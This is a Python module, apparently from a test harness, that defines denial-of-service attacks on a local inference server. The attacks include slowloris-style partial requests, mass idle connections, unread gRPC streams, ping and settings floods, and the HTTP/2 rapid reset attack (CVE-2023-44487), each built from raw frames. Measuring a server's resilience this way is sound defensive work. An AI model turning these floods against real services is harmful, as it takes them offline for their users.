"""The attacks: what is sent, on how many connections, and what is not read."""

import socket
import struct
import threading
from collections.abc import Callable
from contextlib import ExitStack, suppress

LIVE = "/inference.GRPCInferenceService/ServerLive"

_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_HEADERS, _SETTINGS, _PING, _RST_STREAM = 1, 4, 6, 3


def _frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack(">I", len(payload))[1:] + struct.pack(">BBI", kind, flags, stream) + payload


def _literal(name: bytes, value: bytes) -> bytes:
    """A header field without indexing or Huffman coding, of less than 127 bytes each."""
    return b"\0" + bytes([len(name)]) + name + bytes([len(value)]) + value


def _request(method: str) -> bytes:
    fields = {
        b":method": b"POST", b":scheme": b"http", b":path": method.encode(), b":authority": b"x",
        b"te": b"trailers", b"content-type": b"application/grpc",
    }  # fmt: skip
    return b"".join(_literal(name, value) for name, value in fields.items())


def _connection(port: int) -> socket.socket:
    return socket.create_connection(("127.0.0.1", port), timeout=5)


Attack = Callable[[int, int, ExitStack, threading.Event], None]


def _many(stack: ExitStack, port: int, count: int, sent: bytes, over: threading.Event) -> None:
    """Open connections that send something, and no more; open again those that are closed."""
    connections = []
    for _ in range(count):
        if over.is_set():
            return
        with suppress(OSError):
            connection = stack.enter_context(_connection(port))
            connection.sendall(sent)
            connections.append(connection)
    over.wait()


def _http(sent: bytes, count: int = 4200) -> Attack:
    return lambda _, port, stack, over: _many(stack, port, count, sent, over)


def _http2(sent: bytes, count: int = 4200) -> Attack:
    return lambda port, _, stack, over: _many(stack, port, count, sent, over)


def _drip(sent: bytes, count: int) -> Attack:
    """Connections that send a byte a second each."""

    def attack(_: int, port: int, stack: ExitStack, over: threading.Event) -> None:
        connections = []
        for _number in range(count):
            connection = stack.enter_context(_connection(port))
            connection.sendall(sent)
            connections.append(connection)
        while not over.wait(1.0):
            for connection in connections:
                with suppress(OSError):
                    connection.sendall(b"x")

    return attack


def _flood(opening: bytes, burst: bytes, *, read: bool, threads: int = 1) -> Attack:
    """Connections that send as fast as they can; again on a new one when the server closes it."""

    def send(port: int, over: threading.Event) -> None:
        while not over.is_set():
            with suppress(OSError), _connection(port) as connection:
                connection.sendall(opening)
                connection.settimeout(1)
                while not over.is_set():
                    connection.sendall(burst)
                    if read:
                        connection.setblocking(False)
                        with suppress(BlockingIOError):
                            if not connection.recv(1 << 16):
                                break
                        connection.settimeout(1)

    def attack(port: int, _: int, __: ExitStack, over: threading.Event) -> None:
        senders = [threading.Thread(target=send, args=(port, over)) for _ in range(threads)]
        for sender in senders:
            sender.start()
        for sender in senders:
            sender.join()

    return attack


def _streams(method: str, connections: int, each: int, message: bytes = b"") -> Attack:
    """Open streams on connections that never read an answer."""

    def attack(port: int, _: int, stack: ExitStack, over: threading.Event) -> None:
        block = _request(method)
        data = b"\0" + struct.pack(">I", len(message)) + message
        for _number in range(connections):
            connection = stack.enter_context(_connection(port))
            connection.settimeout(1)
            parts = [_PREFACE, _frame(_SETTINGS, 0, 0)]
            for index in range(each):
                parts.append(_frame(_HEADERS, 4, 2 * index + 1, block))
                parts.append(_frame(0, 0, 2 * index + 1, data))
            with suppress(OSError):
                connection.sendall(b"".join(parts))
            if over.is_set():
                return
        over.wait()

    return attack


_OPEN = _PREFACE + _frame(_SETTINGS, 0, 0)
_POST = b"POST /v2/models/m/infer HTTP/1.1\r\nHost: x\r\n"
_STREAM = "/inference.GRPCInferenceService/ModelStreamInfer"


def _resets(count: int) -> bytes:
    """Streams that are opened and reset at once (CVE-2023-44487)."""
    block = _request(LIVE)
    return b"".join(
        _frame(_HEADERS, 4, 2 * i + 1, block) + _frame(_RST_STREAM, 0, 2 * i + 1, bytes(4))
        for i in range(count)
    )


def _nothing(_: int, __: int, ___: ExitStack, over: threading.Event) -> None:
    """The baseline."""
    over.wait()


ATTACKS: dict[str, Attack] = {
    "none": _nothing,
    "HTTP: 4,200 connections that send nothing": _http(b""),
    "HTTP: 4,200 connections with half a head": _http(_POST),
    "HTTP: 4,200 connections with half a body": _http(_POST + b"Content-Length: 9\r\n\r\nx"),
    "HTTP: 1,000 heads, a byte a second": _drip(_POST + b"A: ", 1000),
    "gRPC: 4,200 connections that send nothing": _http2(b""),
    "gRPC: 4,200 connections without a call": _http2(_OPEN),
    "gRPC: 16,384 streams that nobody reads": _streams(_STREAM, 164, 100),
    "gRPC: 16,384 streams on one connection": _streams(_STREAM, 1, 16_384),
    "gRPC: ping flood": _flood(_OPEN, _frame(_PING, 0, 0, bytes(8)) * 1000, read=True),
    "gRPC: ping flood, answers unread": _flood(
        _OPEN, _frame(_PING, 0, 0, bytes(8)) * 1000, read=False
    ),
    "gRPC: settings flood": _flood(_OPEN, _frame(_SETTINGS, 0, 0) * 1000, read=True),
    "gRPC: garbage": _flood(b"", bytes(range(256)) * 256, read=True),
    "gRPC: rapid reset": _flood(_OPEN, _resets(1000), read=True),
}
